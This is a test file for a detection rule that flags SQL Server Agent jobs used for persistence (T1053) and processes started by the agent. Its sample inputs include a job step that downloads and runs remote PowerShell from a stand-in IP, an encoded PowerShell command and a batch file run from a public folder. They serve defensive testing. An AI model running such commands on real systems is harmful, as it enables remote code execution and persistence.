import { describe, expect, test } from 'vitest';
import type { OtherEvent } from '../../../src/core/event.ts';
import { t1053WinSqlAgentJob as alert } from '../../../src/t1053/extended/win-sql-agent.ts';
import { base, process } from '../events.ts';
import { scores, told } from './host-run.ts';

const LINES = ['succeeded:true', 'server_principal_name:CORP\\dba', 'statement:'];
const audited = (statement: string, more: Partial<OtherEvent> = {}): OtherEvent => ({
  kind: 'other',
  ...base('application/33205', 0),
  fields: { Data: LINES.join('\n') + statement },
  ...more,
});
const step = (subsystem: string, command: string) =>
  `EXEC msdb.dbo.sp_add_jobstep @job_name=N'x', @subsystem=N'${subsystem}', @command=N'${command}'`;
const AGENT = { parentImage: 'C:\\Program Files\\Microsoft SQL Server\\SQLAGENT.EXE' };
const child = (program: string, rest: string) =>
  process(`${program} ${rest}`, { image: `C:\\Windows\\System32\\${program}`, ...AGENT });

describe('what fires', () => {
  test.each([
    ['a job', "EXEC sp_add_job @job_name=N'x'", 20],
    ['a step of the database', step('TSQL', 'SELECT 1'), 20],
    ['a step of the system', step('CmdExec', 'dir'), 45],
    ['one that loads', step('PowerShell', 'iex (iwr http://203.0.113.9/x)'), 65],
    ['a job with its step', `EXEC sp_add_job @job_name=N'x'; ${step('cmdexec', 'dir')}`, 45],
  ])('%s', (_, statement, score) => {
    expect(scores(alert, audited(statement))).toEqual([score]);
  });

  test('in any shape of the record, with the login', () => {
    const fields = { EventData: { Data: ['x', `${LINES.join('\n')}EXEC sp_add_job`] } };
    const [first] = told(alert, [audited('', { fields })]);
    expect(first).toMatchObject({ score: 20, source: { account: 'CORP\\dba' } });
  });

  test('on a command line, without its password', () => {
    const line = `sqlcmd -S db --password S3cret-pw -Q "${step('CmdExec', 'dir')}"`;
    const [first] = told(alert, [process(line, { image: 'C:\\x\\sqlcmd.exe' })]);
    expect(first).toMatchObject({ score: 45, details: { subsystem: 'CmdExec' } });
    expect(JSON.stringify(first)).not.toContain('S3cret-pw');
  });

  test.each([
    [child('powershell.exe', '-enc SQBFAFgAIAAoAE4A'), 35],
    [child('cmd.exe', '/c C:\\Users\\Public\\x.bat'), 30],
  ])('what the agent starts, row %#', (event, score) => {
    expect(scores(alert, event)).toEqual([score]);
  });
});

describe('what looks alike', () => {
  test.each([
    ['the removal of a job', audited("EXEC sp_delete_job @job_name=N'x'")],
    ['a procedure of a longer name', audited('EXEC my_sp_add_jobs')],
    ['one that failed', audited('', { fields: { Data: 'succeeded:false\nstatement:sp_add_job' } })],
    ['another event', audited('EXEC sp_add_job', { telemetry: 'application/33206' })],
    ['a usual step', child('cmd.exe', '/c "C:\\Program Files\\App\\x.bat"')],
    ['another program of the agent', child('sqlps.exe', 'https://host/x')],
    [
      'the same below another parent',
      { ...child('cmd.exe', '/c https://x'), parentImage: 'C:\\x' },
    ],
  ])('%s is silent', (_, event) => {
    expect(scores(alert, event)).toEqual([]);
  });
});
